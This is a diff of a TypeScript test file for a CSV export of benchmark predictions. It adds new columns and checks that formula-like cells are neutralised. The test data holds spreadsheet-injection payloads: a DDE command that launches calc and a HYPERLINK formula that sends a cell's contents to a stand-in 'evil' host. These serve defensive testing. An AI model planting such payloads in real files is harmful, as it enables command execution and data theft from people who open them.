@@ -90,7 +90,8 @@ describe("export", () => {
     const csv = renderExport("csv", rows).split("\r\n")
     assert.strictEqual(
       csv[0],
-      "question_id,video_id,task_type,duration,domain,question,options,answer,prediction,outcome,stop_reason,forced,steps,prompt_tokens,completion_tokens,cost_usd,time_ms,error"
+      "run_id,agent_model,question_id,video_id,task_type,duration,domain,question,options,answer,prediction,outcome," +
+        "stop_reason,forced,steps,prompt_tokens,completion_tokens,cost_usd,time_ms,error,evidence,reasoning"
     )
     assert.include(csv[3], `"Says ""hi, there""?"`)
     assert.strictEqual(csv.length, 5)
@@ -105,18 +106,28 @@ describe("export", () => {
         taskType: "+cmd|' /C calc'!A0",
         domain: "@SUM(1+1)"
       }),
-      prediction({ questionId: "h-2", question: "-2+3", taskType: "\tTab", domain: "\rCR" }),
+      prediction({
+        questionId: "h-2",
+        question: "-2+3",
+        taskType: "\tTab",
+        domain: "\rCR",
+        evidence: "=1+1",
+        reasoning: "@cmd"
+      }),
       prediction({ questionId: "-7", question: "-1.5", taskType: "plain" })
     ]
-    const [, first, second, third] = renderExport("csv", hostile).split("\r\n")
+    const run = { runId: "=run", agentModel: "+model" }
+    const [, first, second, third] = renderExport("csv", hostile, () => null, run).split("\r\n")
     assert.include(first, `"'=HYPERLINK(""http://evil/?""&A1,""x"")"`)
     assert.include(first, `,'+cmd|' /C calc'!A0,`)
     assert.include(first, `'@SUM(1+1)`)
     assert.include(second, `'-2+3`)
     assert.include(second, `'\tTab`)
     assert.include(second, `"'\rCR"`)
+    assert.include(second, `,'=1+1,'@cmd`)
+    assert.isTrue(first!.startsWith("'=run,'+model,h-1,"))
     // A negative number is a number, not a formula.
-    assert.isTrue(third!.startsWith("-7,"))
+    assert.isTrue(third!.startsWith("'=run,'+model,-7,"))
     assert.include(third, ",-1.5,")
     // No cell of any row begins with a formula character once its quotes are set aside.
     for (const row of [first, second]) {
